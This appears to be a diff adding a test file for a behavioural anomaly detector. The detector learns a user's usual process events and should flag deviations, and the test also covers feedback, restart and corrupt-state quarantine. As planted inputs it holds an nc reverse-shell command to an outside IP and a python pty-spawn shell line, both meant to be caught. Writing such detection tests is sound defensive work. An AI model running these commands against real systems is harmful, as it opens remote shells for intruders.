@@ -1,0 +1,111 @@
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import t from 'tap';
+import { resolveConfig } from '../conf/config';
+import { Scorer } from '../scorer/scorer';
+import type { ResultRow } from '../scorer/types';
+
+// A subject's whole lifecycle through the Scorer facade with the real models: learning,
+// monitoring, a planted deviation flagged with a reason, feedback, and a restart that resumes.
+
+const HOUR = 3600;
+const START = 1_790_000_000;
+
+function rng(seed: number): () => number {
+  let s = seed >>> 0;
+  return () => {
+    s = (s + 0x6d2b79f5) >>> 0;
+    let x = Math.imul(s ^ (s >>> 15), s | 1);
+    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
+    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const HABITS = [
+  ['/usr/bin/git', 'git status', '/bin/bash'],
+  ['/usr/bin/git', 'git pull --rebase', '/bin/bash'],
+  ['/usr/bin/vim', 'vim src/main.c', '/bin/bash'],
+  ['/usr/bin/make', 'make -j4', '/bin/bash'],
+  ['/usr/bin/gcc', 'gcc -O2 -c main.c', '/usr/bin/make'],
+  ['/usr/bin/ls', 'ls -la', '/bin/bash'],
+  ['/usr/bin/node', 'node server.js', '/bin/bash'],
+];
+
+function processRow(time: number, exe: string, cmdline: string, parentPath: string, pid: number, auid = '1000'): ResultRow {
+  return {
+    query: 'pack_user-behavior_process_events',
+    host: 'build-07',
+    time,
+    action: 'added',
+    columns: { pid: String(pid), path: exe, cmdline, parent: '1', auid, uid: auid, euid: auid, cwd: '/home/bob/src', parent_path: parentPath, time: String(time) },
+    decorations: {},
+  };
+}
+
+function normalDay(r: () => number, day: number, n: number): ResultRow[] {
+  const rows: ResultRow[] = [];
+  for (let i = 0; i < n; i++) {
+    const [exe, cmd, parent] = HABITS[Math.floor(r() * HABITS.length)];
+    const time = START + day * 24 * HOUR + 9 * HOUR + Math.floor(r() * 8 * HOUR);
+    rows.push(processRow(time, exe, cmd, parent, 1000 + Math.floor(r() * 30000)));
+  }
+  return rows.sort((a, b) => a.time - b.time);
+}
+
+const config = (stateDir: string) =>
+  resolveConfig({ state_dir: stateDir, learning: { min_events: 400, min_days: 1 }, models: { rarity: true, ocsvm: true, lstm: false } }, 'test', {});
+
+t.test('learning, monitoring, a planted deviation, feedback, restart', async (t) => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-lifecycle-'));
+  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
+  const users = [{ uid: '1000', username: 'bob' }];
+  const r = rng(1);
+  let scorer = await Scorer.open({ config: config(dir), stateDir: dir });
+  scorer.setUsers(users);
+
+  const first = await scorer.scoreRows(normalDay(r, 0, 300));
+  t.ok(first.every((s) => s.verdict === 'learning' && s.score === null), 'a new subject is learning: no score, no bad');
+  t.equal(first[0].subject, 'bob', 'auid 1000 resolved to bob through the users table');
+
+  await scorer.scoreRows(normalDay(r, 1, 300));
+  const monitoring = scorer.summaries().filter((s) => s.subject === 'bob');
+  t.ok(monitoring.length > 0 && monitoring.every((s) => s.state === 'monitoring'), 'after the minimums bob is monitored');
+
+  const normal = await scorer.scoreRows(normalDay(r, 2, 400));
+  const badNormal = normal.filter((s) => s.verdict === 'bad').length;
+  t.ok(badNormal <= 2, `usual behaviour is rarely bad (${badNormal} of 400)`);
+
+  const attackTime = START + 2 * 24 * HOUR + 23 * HOUR;
+  const [attack] = await scorer.scoreRows([processRow(attackTime, '/usr/bin/nc', 'nc -e /bin/sh 198.51.100.7 4444', '/bin/bash', 31337)]);
+  t.equal(attack.verdict, 'bad', `a never-seen nc reverse shell is bad (score ${attack.score})`);
+  t.match(attack.reasons, /nc/, `the reason names it: ${attack.reasons}`);
+  t.ok(attack.model, 'the deciding model is named');
+
+  // feedback: labelled normal, the same generalised event stops being flagged
+  scorer.feedback(attack, { id: attack.id, label: 'normal', note: 'sanctioned test', time: attackTime });
+  const [again] = await scorer.scoreRows([processRow(attackTime + 60, '/usr/bin/nc', 'nc -e /bin/sh 198.51.100.7 4444', '/bin/bash', 31338)]);
+  t.ok(again.score !== null && again.score >= 0.7, `after normal feedback it is good (score ${again.score})`);
+
+  // restart: the state survives and the subject is still monitoring, not relearning
+  scorer.save();
+  scorer = await Scorer.open({ config: config(dir), stateDir: dir });
+  scorer.setUsers(users);
+  t.ok(scorer.summaries().some((s) => s.subject === 'bob' && s.state === 'monitoring'), 'bob resumes monitoring after a restart');
+  const [afterRestart] = await scorer.scoreRows([processRow(attackTime + 120, '/usr/bin/python3', "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", '/usr/bin/nc', 4242)]);
+  t.equal(afterRestart.verdict, 'bad', `a new deviation after the restart is still caught (score ${afterRestart.score})`);
+});
+
+t.test('a corrupt subject file is quarantined and the subject relearns, loudly', async (t) => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-corrupt-'));
+  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
+  fs.mkdirSync(path.join(dir, 'subjects'), { recursive: true });
+  fs.writeFileSync(path.join(dir, 'subjects', 'alice.json'), '{"format":"anomaly-ext","kind":"subject","version":1,"payload":{"name":"ali');
+  const messages: string[] = [];
+  const scorer = await Scorer.open({ config: config(dir), stateDir: dir, log: (level, msg) => messages.push(`${level}: ${msg}`) });
+  t.equal(scorer.subjectCount, 0, 'nothing half-loaded');
+  t.ok(messages.some((m) => m.startsWith('error:') && m.includes('alice.json')), `the error names the file: ${messages.join(' | ')}`);
+  const quarantined = fs.readdirSync(path.join(dir, 'subjects', 'quarantine'));
+  t.equal(quarantined.length, 1, 'the corrupt file was moved to quarantine');
+  t.notOk(fs.existsSync(path.join(dir, 'subjects', 'alice.json')), 'and is gone from where it would be loaded again');
+});
